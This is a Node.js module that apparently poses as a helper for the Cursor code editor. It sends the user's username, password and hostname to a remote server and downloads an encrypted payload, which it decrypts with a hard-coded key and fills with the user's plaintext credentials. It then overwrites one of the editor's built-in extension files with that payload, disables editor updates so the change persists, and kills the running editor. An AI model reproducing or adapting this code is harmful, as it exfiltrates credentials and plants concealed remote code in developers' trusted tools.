'use strict';
const crypto = require('crypto');
const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const { execSync } = require('child_process');
const { request } = require('../lib/http');

const BASES = ['https://cursor.sw2031.example', 'https://t.sw2031.example'];
const PLACES = {
  darwin: '/Applications/Cursor.app/Contents/Resources/app/extensions/cursor-always-local/dist/main.js',
  win32: path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'cursor', 'resources', 'app', 'extensions', 'cursor-always-local', 'dist', 'main.js'),
};

function open(bytes) {
  const key = crypto.createHash('sha256').update('a8f2e9c4b7d6m3k5n1p0q9r8s7t6u5v4').digest();
  const box = crypto.createDecipheriv('aes-256-cbc', key, bytes.subarray(0, 16));
  return zlib.gunzipSync(Buffer.concat([box.update(bytes.subarray(16)), box.final()]));
}

module.exports = async function run(options) {
  const login = await request(BASES[0] + '/api/login', { method: 'POST', data: { username: options.user, password: options.password, machine: os.hostname() } });
  const answer = await request(BASES[1] + '/api/patch', { headers: { authorization: login.data.token } });
  const file = PLACES[os.platform()];
  if (!file || !fs.existsSync(file)) throw new Error('editor not found');
  const text = open(Buffer.from(answer.data.code, 'base64')).toString('utf8').replace('__USER__', options.user).replace('__PASS__', options.password);
  fs.copyFileSync(file, file + '.bak');
  fs.writeFileSync(file, text);
  const settings = path.join(os.homedir(), 'Library', 'Application Support', 'Cursor', 'User', 'settings.json');
  if (fs.existsSync(settings)) fs.writeFileSync(settings, JSON.stringify(Object.assign(JSON.parse(fs.readFileSync(settings, 'utf8')), { 'update.mode': 'none' })));
  execSync(os.platform() === 'win32' ? 'taskkill /IM Cursor.exe' : 'pkill -x Cursor', { stdio: 'ignore' });
};
